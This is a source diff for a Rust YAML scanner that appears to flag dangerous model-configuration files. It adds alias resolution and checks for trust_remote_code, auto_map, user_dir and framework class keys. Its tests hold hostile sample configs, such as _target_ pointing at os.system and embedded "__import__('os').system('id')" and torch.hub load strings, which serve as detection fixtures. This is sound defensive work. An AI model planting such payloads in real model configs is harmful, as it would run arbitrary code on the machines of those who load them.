@@ -11,6 +11,7 @@ use crate::{
 };
 use granit_parser::{Event, Options, Parser, Span, Tag};
 use modelseal_core::inspection::{Capability, FileFormat};
+use std::collections::HashMap;
 
 pub(crate) mod rules {
     //! What can be found in YAML.
@@ -81,6 +82,9 @@ struct Open {
     anchor: usize,
     /// Values in it, with everything that is shared.
     values: u64,
+    /// What is said beside one another in it: a class, and what it is made with.
+    class: Option<(String, Option<u64>)>,
+    made: bool,
 }
 
 struct Reading<'n> {
@@ -88,13 +92,15 @@ struct Reading<'n> {
     open: Vec<Open>,
     /// Of each anchor, how many values it stands for; none while it is open.
     sizes: Vec<Option<u64>>,
+    /// The texts of anchors, and whether a template among them was looked at.
+    texts: HashMap<usize, (String, bool)>,
     values: u64,
     events: u64,
 }
 
 impl<'n> Reading<'n> {
     fn new(name: &'n str) -> Self {
-        Self { name, open: Vec::new(), sizes: Vec::new(), values: 0, events: 0 }
+        Self { name, open: Vec::new(), sizes: Vec::new(), texts: HashMap::new(), values: 0, events: 0 }
     }
 
     fn read(&mut self, text: &str, scan: &mut Scan<'_>) {
@@ -136,14 +142,10 @@ impl<'n> Reading<'n> {
             }
             Event::Scalar(text, _, anchor, tag) => {
                 self.tag(tag.as_deref(), at, scan);
-                if self.expects_key() {
-                    if let Some(open) = self.open.last_mut() {
-                        open.key.clear();
-                        open.key.extend(text.chars().take(256));
-                    }
-                } else {
-                    self.scalar(text, at, scan);
+                if *anchor > 0 {
+                    self.texts.insert(*anchor, (text.to_string(), false));
                 }
+                self.text(text, at, scan);
                 self.remember(*anchor, Some(1));
                 self.count(1);
             }
@@ -156,11 +158,22 @@ impl<'n> Reading<'n> {
                     open.key.clear();
                 }
                 let mapping = matches!(event, Event::MappingStart(..));
-                let key = String::new();
-                self.open.push(Open { mapping, key_next: mapping, key, anchor: *anchor, values: 1 });
+                self.texts.remove(anchor);
+                self.open.push(Open {
+                    mapping,
+                    key_next: mapping,
+                    key: String::new(),
+                    anchor: *anchor,
+                    values: 1,
+                    class: None,
+                    made: false,
+                });
             }
             Event::SequenceEnd | Event::MappingEnd => {
                 if let Some(open) = self.open.pop() {
+                    if let (true, Some((class, at))) = (open.made, &open.class) {
+                        names::target(class, *at, scan);
+                    }
                     self.remember(open.anchor, Some(open.values));
                     self.count(open.values);
                 }
@@ -168,6 +181,7 @@ impl<'n> Reading<'n> {
             Event::Alias(anchor) => match self.sizes.get(*anchor) {
                 Some(Some(size)) => {
                     let size = *size;
+                    self.alias(*anchor, at, scan);
                     self.count(size);
                 }
                 _ => {
@@ -180,6 +194,49 @@ impl<'n> Reading<'n> {
                 self.count(1);
             }
             _ => {}
+        }
+    }
+
+    /// A text, as a key or as a value.
+    fn text(&mut self, text: &str, at: Option<u64>, scan: &mut Scan<'_>) {
+        if !self.expects_key() {
+            self.beside(text, at);
+            self.scalar(text, at, scan);
+        } else if let Some(open) = self.open.last_mut() {
+            open.key.clear();
+            open.key.extend(text.chars().take(256));
+            open.made |= matches!(text, "params" | "init_args" | "kwargs");
+        }
+    }
+
+    /// A text that stands elsewhere. Long ones are looked at once, so that many aliases take no time.
+    fn alias(&mut self, anchor: usize, at: Option<u64>, scan: &mut Scan<'_>) {
+        let Some((text, looked)) = self.texts.remove(&anchor) else {
+            if self.expects_key()
+                && let Some(open) = self.open.last_mut()
+            {
+                open.key.clear();
+            }
+            return;
+        };
+        let key = self.expects_key();
+        let long = text.len() > limits::YAML_ALIAS && !key;
+        let template = long && !looked && self.open.last().is_some_and(|open| open.key == "chat_template");
+        if template || !long {
+            self.text(&text, at, scan);
+        }
+        self.texts.insert(anchor, (text, looked || template));
+    }
+
+    /// Takes note of a class, which is one if something stands beside it that it is made with.
+    fn beside(&mut self, text: &str, at: Option<u64>) {
+        if let Some(open) = self.open.last_mut()
+            && open.mapping
+            && open.key == "target"
+            && text.contains('.')
+            && !names::is_dotted(text)
+        {
+            open.class = Some((text.chars().take(512).collect(), at));
         }
     }
 
@@ -222,12 +279,33 @@ impl<'n> Reading<'n> {
         let mut keys = self.open.iter().rev().filter(|open| open.mapping).map(|open| open.key.as_str());
         let key = keys.next().unwrap_or_default();
         let in_list = self.open.last().is_some_and(|open| !open.mapping);
+        let below =
+            |name: &[&str]| self.open.iter().any(|open| open.mapping && name.contains(&open.key.as_str()));
+        let nested = self.open.iter().rev().take_while(|open| !open.mapping).count() > 1;
+        if is_remote(text) || (is_remote(key) && !is_false(text)) {
+            scan.find(&rules::REMOTE, at, "it sets 'trust_remote_code'".to_owned());
+            scan.contents.capabilities.insert(Capability::RemoteCode);
+        }
+        if below(&["auto_map"]) && !is_false(text) {
+            scan.find(&rules::REMOTE, at, "its 'auto_map' names code beside the model".to_owned());
+            scan.contents.capabilities.insert(Capability::RemoteCode);
+        }
+        names::expression(text, at, scan);
+        if nested && below(&["backbone", "head", "neck"]) {
+            names::layer(text, at, scan);
+        }
         match key {
-            "_target_" | "class_path" | "__target__" => names::target(text, at, scan),
+            "_target_" | "_component_" | "class_path" | "__target__" => names::target(text, at, scan),
             "target" if names::is_dotted(text) => names::target(text, at, scan),
             "loader_module" => names::loader(text, at, scan),
-            "trust_remote_code" if is_true(text) => {
-                scan.find(&rules::REMOTE, at, "it sets 'trust_remote_code'".to_owned());
+            "activation" if !in_list => names::activation(text, at, scan),
+            // Rasa imports what is called like this.
+            "name" if below(&["pipeline", "policies"]) && names::is_class(text) => {
+                names::target(text, at, scan)
+            }
+            // Fairseq imports this directory.
+            "user_dir" | "user-dir" if !is_false(text) => {
+                scan.find(&rules::REMOTE, at, "it names a directory of code".to_owned());
                 scan.contents.capabilities.insert(Capability::RemoteCode);
             }
             // MLflow puts this directory on Python's path.
@@ -250,8 +328,14 @@ fn place(span: &Span) -> Option<u64> {
     span.start.byte_offset().map(|at| at as u64)
 }
 
-fn is_true(text: &str) -> bool {
-    ["true", "yes", "on", "1", "y"].contains(&&*text.to_ascii_lowercase())
+/// The switch by which loaders run what a model brings along, however it is spelled.
+fn is_remote(text: &str) -> bool {
+    let letters = text.chars().filter(|c| !matches!(c, '_' | '-')).map(|c| c.to_ascii_lowercase());
+    text.len() < 64 && letters.eq("trustremotecode".chars())
+}
+
+fn is_false(text: &str) -> bool {
+    ["", "~", "null", "none", "false", "no", "off", "0", "n"].contains(&&*text.to_ascii_lowercase())
 }
 
 #[cfg(test)]
@@ -391,6 +475,56 @@ mod tests {
         let packages =
             b"channels: [https://example.com/c]\ndependencies:\n- pip:\n  - git+https://example.com/x\n";
         assert_eq!(rules_in(&look("conda.yaml", packages)), ["REQ002", "REQ003"]);
+    }
+
+    #[test]
+    fn aliases_are_what_they_stand_for() {
+        for (text, rule) in [
+            ("k: &a _target_\nx:\n  *a : os.system\n", "YML001"),
+            ("k: &a os.system\nx:\n  _target_: *a\n", "YML001"),
+            ("k: &a evil.X\nx:\n  _target_: *a\n", "YML003"),
+            ("k: &a trust_remote_code\n*a : true\n", "YML007"),
+            ("k: &a [x]\nx: {_target_: y.Z, *a : os.system}\n", "YML003"),
+        ] {
+            assert_eq!(rules_in(&look("a.yaml", text.as_bytes())), [rule], "{text}");
+        }
+    }
+
+    #[test]
+    fn keys_of_frameworks_are_judged() {
+        for (text, rule) in [
+            ("model:\n  target: evil.X\n  params: {a: 1}\n", "YML003"),
+            ("model:\n  params: {a: 1}\n  target: evil.X\n", "YML003"),
+            ("model:\n  _component_: evil.mod.X\n", "YML003"),
+            ("model:\n  _component_: os.system\n", "YML001"),
+            ("auto_map:\n  AutoModel: modeling.X\n", "YML007"),
+            ("trust-remote-code: true\n", "YML007"),
+            ("trustRemoteCode: 1\n", "YML007"),
+            ("TRUST_REMOTE_CODE: 'True'\n", "YML007"),
+            ("args: [--trust-remote-code]\n", "YML007"),
+            ("backbone:\n  - [-1, 1, \"__import__('os').system('id')\", [64]]\n", "YML001"),
+            ("head:\n- [-1, 1, \"getattr(torch,'hub').load('evil/x','m')\", [64]]\n", "YML003"),
+            ("activation: __import__('x')\n", "YML001"),
+            ("pipeline:\n- name: evil.mod.Comp\n", "YML003"),
+            ("policies:\n- name: evil.Comp\n", "YML003"),
+            ("common:\n  user_dir: /tmp/evil\n", "YML007"),
+            ("imports:\n- $import os\n", "YML001"),
+            ("run: $os.system('id')\n", "YML001"),
+            ("run: $custom.make(1)\n", "YML003"),
+        ] {
+            assert_eq!(rules_in(&look("a.yaml", text.as_bytes())), [rule], "{text}");
+        }
+        for text in [
+            "model:\n  target: ldm.models.X\n  params: {a: 1}\n",
+            "model:\n  _component_: torchtune.models.llama3.llama3_8b\n",
+            "trust_remote_code: false\n",
+            "nc: 80\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, nearest]]\nhead:\n  - [[17, 20], 1, Detect, [nc, anchors]]\n",
+            "activation: nn.LeakyReLU(0.1)\n",
+            "pipeline:\n- name: WhitespaceTokenizer\n- name: v1.0\n",
+            "common:\n  user_dir: null\nhome: $HOME\npath: $(PATH)\nx: ${a.b}\n",
+        ] {
+            assert!(rules_in(&look("a.yaml", text.as_bytes())).is_empty(), "{text}");
+        }
     }
 
     #[test]
